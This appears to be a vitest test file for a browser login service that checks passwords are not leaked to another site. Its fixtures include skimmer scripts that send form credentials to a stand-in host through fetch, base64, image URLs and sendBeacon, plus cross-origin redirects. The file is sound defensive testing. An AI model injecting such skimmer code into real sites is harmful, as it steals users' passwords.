import { afterAll, describe, expect } from 'vitest';
import { it } from '../browser/shared-service.ts';
import { useStore } from '../store/databases.ts';
import {
  OTHER_SITE,
  FORM,
  PASSWORD_IN_FORM,
  startLoginOnSite,
  type LoginOnSite,
  type Handler,
} from './login-on-site.ts';

const leads =
  (status: number, to: (host: string) => string): Handler =>
  (request, response) => {
    request.resume();
    response.writeHead(status, { location: to(request.headers.host ?? ''), 'access-control-allow-origin': '*' }).end();
  };
const away = (host: string): string => `http://${host.replace('localhost', '127.0.0.1')}/taken`;
const GOES_IN = `document.body.innerHTML = '<h1>Welcome</h1><a href="/logout">Log out</a>';`;
/** Sends its login by script, once a recorder or another script of the page has run `also` with what is in its fields. */
const SCRIPTED = (also: string, to = '/in'): string =>
  FORM(`<script>document.querySelector('form').addEventListener('submit', async (event) => {
    event.preventDefault();
    const body = new URLSearchParams(new FormData(event.target));
    ${also};
    await fetch('${to}', { method: 'POST', body }).then(() => { ${GOES_IN} });
  });</script>`);

const PAGES: Record<string, string | Handler> = {
  '/redirected': FORM().replace('/in', '/307'),
  '/redirected-for-good': FORM().replace('/in', '/308'),
  '/script-redirected': SCRIPTED('', '/307'),
  '/redirected-home': FORM().replace('/in', '/307-home'),
  '/307': leads(307, away),
  '/308': leads(308, away),
  '/307-home': leads(307, () => '/in'),
  '/fetches': SCRIPTED('', `${OTHER_SITE}/taken`),
  '/recorded': SCRIPTED(`fetch('${OTHER_SITE}/taken', { method: 'POST', body }).catch(() => undefined)`),
  '/recorded-in-json': SCRIPTED(
    `fetch('${OTHER_SITE}/taken', { method: 'POST', body: JSON.stringify(Object.fromEntries(body)) }).catch(() => undefined)`,
  ),
  '/recorded-in-base64': SCRIPTED(
    `fetch('${OTHER_SITE}/taken', { method: 'POST', body: btoa('x' + body.get('pass') + 'yz') }).catch(() => undefined)`,
  ),
  '/recorded-by-address': SCRIPTED(`new Image().src = '${OTHER_SITE}/taken?' + body`),
  '/recorded-by-beacon': SCRIPTED(`navigator.sendBeacon('${OTHER_SITE}/taken', body.toString())`),
};

const stores = useStore();
let on: LoginOnSite;
it.beforeAll(async ({ service }) => {
  on = await startLoginOnSite(service, stores().store, PAGES);
});
afterAll(() => on.close());

const WHOLE = (): string => `localhost:${String(on.site.port)} user=ann&pass=${PASSWORD_IN_FORM}`;

describe('a password in a request', () => {
  it.each([
    ['the redirect of a form', '/redirected'],
    ['the lasting redirect of a form', '/redirected-for-good'],
    ['the redirect of what a script sends', '/script-redirected'],
    ['a script that sends the form', '/fetches'],
  ])('is not leaked by %s', async (_what, path) => {
    expect(await on.logIn(path)).toBe('domain_not_allowed');
    expect(on.posted).toEqual([]);
  });

  it.each([
    ['a recorder', '/recorded'],
    ['a recorder that writes JSON', '/recorded-in-json'],
    ['a recorder that writes base64', '/recorded-in-base64'],
    ['the address of a picture', '/recorded-by-address'],
    ['a beacon', '/recorded-by-beacon'],
  ])('is not leaked by %s, and the login continues', async (_what, path) => {
    expect(await on.logIn(path)).toMatchObject({ reading: { kind: 'logged_in' } });
    expect(on.posted).toEqual([WHOLE()]);
  });

  it('follows redirects of its own site', async () => {
    expect(await on.logIn('/redirected-home')).toMatchObject({ reading: { kind: 'logged_in' } });
    expect(on.posted).toEqual([WHOLE()]);
  });
});
